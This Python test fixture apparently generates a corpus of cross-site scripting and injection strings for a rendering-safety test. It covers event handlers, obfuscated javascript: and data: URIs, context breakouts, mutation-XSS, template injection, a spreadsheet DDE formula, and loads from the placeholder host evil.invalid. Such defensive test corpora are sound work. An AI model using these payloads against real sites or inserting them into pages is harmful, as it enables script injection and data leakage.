"""Words made to run, to load or to lead away wherever they are shown as anything but words.

Case 43 of docs/reliability.md. Whatever of them takes effect calls `alert` or asks `evil.invalid`.
"""

from __future__ import annotations

from itertools import product

EVIL = "evil.invalid"
RUN = "alert(1)"
LOAD = f"//{EVIL}/x"

_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "marquee", "iframe src=/", "object data=x", "select autofocus", "a href=/ autofocus tabindex=1",
    "style", "div style=animation-name:x", "math",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover")
_LEADS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f" javascript:{RUN}", f"\x01javascript:{RUN}", f"javascript://x%0a{RUN}", f"vbscript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"jav&#x09;ascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>", f"blob:{RUN}", f"file:///{EVIL}", f"https:{LOAD}@x",
    f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}",
)  # fmt: skip
_LINKS = (
    "[x]({0})", "![x]({0})", "<{0}>", "<a href=\"{0}\">x</a>", "<iframe src='{0}'>", "{0}",
    "[{0}]({0})",
)  # fmt: skip
_WAYS_OUT = (
    "\"", "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "*/", "\\\"", "\\x3c/script>", "{{", "}}", "${",
)  # fmt: skip
_OTHER = (
    f"<script>{RUN}</script>", f"<script src={LOAD}></script>", f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<link rel=stylesheet href={LOAD}>", f"<base href={LOAD}>", f"<img src={LOAD}>",
    f"<meta http-equiv=refresh content='0;url=https:{LOAD}'>", f"<form action={LOAD}><button>x",
    f"<button formaction=javascript:{RUN}>x", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<svg><use href='{LOAD}#x'>", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<math><mtext></p><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<style>*{{background:url({LOAD})}}</style>", f"<p style=\"background:url({LOAD})\">x",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞", f"<img src='x' onerror\x0c=\x0c{RUN}>",
    f"<img/src/onerror={RUN}>",
    f"<svg/onload={RUN}//", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}",
    f"{{% debug %}}{{{{ 7*7 }}}}<img src=x onerror={RUN}>", "{{ visitor.name }}",
    f"=cmd|'/C calc'!A0<img src=x onerror={RUN}>",
    f"=HYPERLINK(\"https:{LOAD}\",\"x\")", f"\u202e>tpircs<{RUN}",
    f"<!--><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml-stylesheet href='{LOAD}'?>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<div is=x data-x='{RUN}' onclick={RUN}>", f"<input type=image src={LOAD}>",
    f"<embed src=javascript:{RUN}>",
    f"<track src={LOAD} default>", f"<picture><source srcset={LOAD}><img>", f"<bgsound src={LOAD}>",
)  # fmt: skip


def corpus() -> list[str]:
    """At least two hundred of them, each once, each short enough for a name of 120 characters."""
    words = [
        *(f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)),
        *(form.format(lead) for form, lead in product(_LINKS, _LEADS)),
        *(f"{out}<img src=x onerror={RUN}>" for out in _WAYS_OUT),
        *_OTHER,
    ]
    return list(dict.fromkeys(word[:120] for word in words))
